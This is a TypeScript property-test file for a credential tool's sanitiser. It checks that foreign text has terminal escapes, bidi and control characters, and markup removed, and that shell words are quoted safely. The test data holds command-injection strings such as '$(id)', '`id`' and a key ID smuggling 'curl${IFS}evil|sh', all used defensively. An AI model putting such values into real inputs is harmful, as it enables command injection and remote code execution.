import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { attentionOf } from '../../../src/domain/attention.js';
import { plainJson, plainLine, plainLines, plainMarkdown, shellWord } from '../../../src/domain/foreignText.js';
import { newLane } from '../../../src/domain/lane.js';
import { findingsOf } from '../../../src/domain/reconcile.js';
import { viewOf } from '../../../src/domain/view.js';
import { newDebt } from '../../../src/domain/transitions.js';
import { identity, recordOf, t0 } from './facts.js';

/** Acts on a terminal, ends a line, or shows as something else than it is. */
const acting = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
const hostile = fc.string({
  unit: fc.oneof(
    fc.constantFrom(
      '\u001b[2J',
      '\u009b31m',
      '\u001b]8;;http://x\u0007',
      '\u202e',
      '\u2066',
      '\u200b',
      '\u2028',
      '\r',
      '\n',
    ),
    fc.constantFrom(
      '\ud800',
      '\u{e0041}',
      '\u061c',
      '\ufeff',
      '"',
      '\\',
      '`',
      '|',
      '<img src=x>',
      '$(id)',
      "'",
      ';',
      '-',
    ),
    fc.string({ unit: 'binary', maxLength: 3 }),
  ),
});

describe('foreign text', () => {
  test('becomes one line in which nothing acts, and stays what it is where nothing does', () => {
    fc.assert(fc.property(hostile, (text) => !acting.test(plainLine(text))));
    fc.assert(fc.property(fc.string({ unit: 'grapheme-ascii' }), (text) => plainLine(text) === text));
    expect(plainLine('größe 鍵 500 ms')).toBe('größe 鍵 500 ms');
  });

  test('is cut to a length, megabytes at once', () => {
    expect(plainLine('\u001b[31m'.repeat(300_000), 500)).toHaveLength(500);
    expect([plainLine('four', 4), plainLine('four!', 4)]).toEqual(['four', 'fou…']);
  });

  test('is made plain wherever it stands in a value', () => {
    expect(plainLines({ a: ['x\ny', { b: '\u001bz' }], n: 1, none: null })).toEqual({
      a: ['x?y', { b: '?z' }],
      n: 1,
      none: null,
    });
  });

  test('makes no markup of its own in the Markdown of Temporal’s UI', () => {
    fc.assert(
      fc.property(hostile, (text) => !/[`|<>[\]\p{C}]/u.test(plainMarkdown(text).replaceAll(/\p{Cn}|\p{Co}/gu, ''))),
    );
  });

  test('in JSON is escaped, and the JSON means the same', () => {
    fc.assert(
      fc.property(fc.jsonValue({ stringUnit: 'binary' }), hostile, (value, text) => {
        const json = JSON.stringify({ value, text, [text]: [text] });
        const plain = plainJson(json);
        expect(JSON.parse(plain)).toEqual(JSON.parse(json));
        expect(plain).not.toMatch(acting);
      }),
    );
  });
});

describe('a word of a command that is shown to be copied', () => {
  test('is that word to a shell, whatever it holds', () => {
    const words = [
      '8a8186f9',
      '$(touch x)',
      '`id`',
      "it's",
      'a b;c|d&&e>f',
      '-rf',
      '!!',
      '~',
      '#',
      '',
      '*',
      'a\nb',
      '{a,b}',
    ];
    const script = `for word in ${words.map(shellWord).join(' ')}; do printf '%s\\n' "$word"; done`;
    const shown = execFileSync('sh', ['-c', script], { encoding: 'utf8' }).split('\n').slice(0, -1);
    expect(shown).toEqual(words.map((word) => plainLine(word)));
  });

  test('stays as it is where it is harmless', () => {
    fc.assert(fc.property(fc.stringMatching(/^[A-Za-z0-9_.][A-Za-z0-9_.:-]*$/), (id) => shellWord(id) === id));
  });

  test('is what an attention and a comparison say of a key that a provider has named', () => {
    const keyId = 'x;curl${IFS}evil|sh';
    const record = recordOf({ credentialId: 'core', debts: [newDebt('suspected-orphan', keyId, identity, t0)] });
    const sighting = { keys: [{ keyId: 'key-1' }, { keyId }], account: 'listed', current: 'works' } as const;
    const compared = { record, sighting: { ...sighting, because: null, code: null }, repointed: null, workflow: null };
    const lane = { ...newLane('core'), view: viewOf(record, null) };
    const commands = [
      ...attentionOf(lane, t0).map(({ command }) => command),
      ...findingsOf({ ...compared, skewMs: 0, settleMs: 0, nowMs: t0 }).map(({ next }) => next),
    ];
    const quoted = "keyturn reconcile core --delete 'x;curl${IFS}evil|sh'";
    expect(commands.filter((command) => command?.includes('--delete'))).toEqual([quoted, quoted]);
  });
});
